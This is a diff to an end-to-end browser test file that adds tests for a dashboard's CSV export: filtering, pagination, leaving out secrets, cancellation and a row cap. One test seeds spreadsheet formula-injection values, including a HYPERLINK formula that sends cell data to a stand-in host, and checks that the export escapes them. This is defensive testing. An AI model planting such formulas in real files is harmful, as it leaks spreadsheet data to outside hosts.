@@ -1,4 +1,4 @@
-import type { Browser, Page } from 'playwright-core';
+import type { Browser, Download, Page } from 'playwright-core';
 import type { TestApp } from '../support/app.js';
 import { eventually } from '../support/eventually.js';
 import type { GivenApp } from '../support/given.js';
@@ -45,6 +45,19 @@ async function givenMessages(count: number): Promise<void> {
      from generate_series(1, $2::int) i`,
     [shop.id, count],
   );
+}
+
+async function read(file: Download): Promise<string> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of await file.createReadStream()) chunks.push(chunk as Buffer);
+  return Buffer.concat(chunks).toString();
+}
+
+async function exported(): Promise<{ name: string; content: string }> {
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export CSV' }).click();
+  const file = await download;
+  return { name: file.suggestedFilename(), content: await read(file) };
 }
 
 const scrolledBy = (): Promise<unknown> => visitor.evaluate(`document.querySelector('.scroll')?.scrollTop`);
@@ -119,6 +132,103 @@ describe('going back', () => {
     await page.getByText('Page 1').waitFor();
     await page.goBack();
     await page.getByText('Page 3').waitFor();
+  });
+});
+
+describe('a CSV file', () => {
+  it('has all rows that the filter finds, each in one line, and no formula that a user wrote', async () => {
+    const hostile = [`=HYPERLINK("http://127.0.0.1:9/?"&A1,"here")`, `x;=1+1`, `@SUM(A1)`];
+    for (const [index, first_name] of hostile.entries())
+      await app.given.user(shop, { first_name, email: `user-${index}@example.com` });
+    await visitor.signIn(app.managementKey, at('/users'));
+    await rows().first().waitFor();
+    const { name, content } = await exported();
+    expect(name).toMatch(/^users-\d{4}-\d\d-\d\d\.csv$/);
+    const [head, ...lines] = content.split('\r\n');
+    expect(head).toBe('\uFEFF"Id","User","Name","State","Providers","Wallets","Created"');
+    expect(lines.map((line) => line.replace(/"user_[^"]+"/, 'id').replace(/"[^"]+Z"/, 'time'))).toEqual([
+      `id,"user-2@example.com","'@SUM(A1)","active","",1,time`,
+      `id,"user-1@example.com","x;'=1+1","active","",1,time`,
+      `id,"user-0@example.com","'=HYPERLINK(""http://127.0.0.1:9/?""&A1,""here"")","active","",1,time`,
+      '',
+    ]);
+    await page.getByText('Rows in the file: 3.').waitFor();
+    await visitor.inspect('users-exported');
+  });
+
+  it('has the rows of every page, and only those that the filter finds', async () => {
+    await givenMessages(230);
+    await observer.rows(`update messages set status = 'failed' where app_id = $1 and recipient = 'number 7'`, [
+      shop.id,
+    ]);
+    await visitor.signIn(app.managementKey, at('/messages?status=sent'));
+    await rows().first().waitFor();
+    const { content } = await exported();
+    const numbers = [...content.matchAll(/"number (\d+)"/g)].map(([, number]) => Number(number));
+    expect(numbers).toEqual(Array.from({ length: 230 }, (_, index) => 230 - index).filter((number) => number !== 7));
+  });
+
+  it('of keys and connections has no secret', async () => {
+    await app.call('POST', `/management/v1/apps/${shop.id}/oauth_connections`, {
+      key: app.managementKey,
+      body: { provider: 'google', client_id: 'shop', client_secret: 'shop-secret' },
+    });
+    await visitor.signIn(app.managementKey, at('/keys'));
+    await rows().first().waitFor();
+    const keys = (await exported()).content;
+    await visitor.open(at('/connections'));
+    await rows().first().waitFor();
+    const connections = (await exported()).content;
+    expect([keys, connections].map((content) => content.split('\r\n')[0])).toEqual([
+      '\uFEFF"Id","Name","Kind","Last used","Expires","Created"',
+      '\uFEFF"Id","Provider","Client id","Issuer","Callback URL"',
+    ]);
+    expect([keys.split('\r\n').length, connections.split('\r\n').length]).toEqual([4, 3]);
+    for (const secret of [shop.secretKey, 'shop-secret']) expect(keys + connections).not.toContain(secret);
+  });
+
+  it('is not saved after a cancel or a failure, which is named', async () => {
+    await givenMessages(230);
+    await visitor.signIn(app.managementKey, at('/messages'));
+    await rows().first().waitFor();
+    const saved: Download[] = [];
+    page.on('download', (download) => saved.push(download));
+    let goOn = (): void => undefined;
+    const held = new Promise<void>((resolve) => (goOn = resolve));
+    await page.route('**/messages?limit=100*', async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.getByRole('button', { name: 'Export CSV' }).focus();
+    await page.keyboard.press('Enter');
+    await page.getByText('0 rows loaded').waitFor();
+    expect(await visitor.focusedName()).toBe('Cancel the export');
+    await visitor.screenshot('export-running');
+    await page.keyboard.press('Enter');
+    await page.getByText('The export was cancelled.').waitFor();
+    const loads: string[] = [];
+    page.on('request', (request) => request.url().includes('limit=100') && loads.push(request.url()));
+    goOn();
+    expect((await exported()).content.split('\r\n')).toHaveLength(232);
+    expect([saved.length, loads.length]).toEqual([1, 3]);
+    await page.unroute('**/messages?limit=100*');
+    await visitor.context.setOffline(true);
+    await page.getByRole('button', { name: 'Export CSV' }).click();
+    await page.getByText('The service cannot be reached').waitFor();
+    expect(saved).toHaveLength(1);
+  });
+
+  it('has at most 100,000 rows, and says when there are more', async () => {
+    await givenMessages(100_001);
+    await visitor.signIn(app.managementKey, at('/messages'));
+    await rows().first().waitFor();
+    const { content } = await exported();
+    await page.getByText('The file has only the first 100,000 rows of the list.').waitFor();
+    expect([content.split('\r\n').length - 2, content.includes('"number 2"'), content.includes('"number 1"')]).toEqual([
+      100_000,
+      true,
+      false,
+    ]);
   });
 });
 
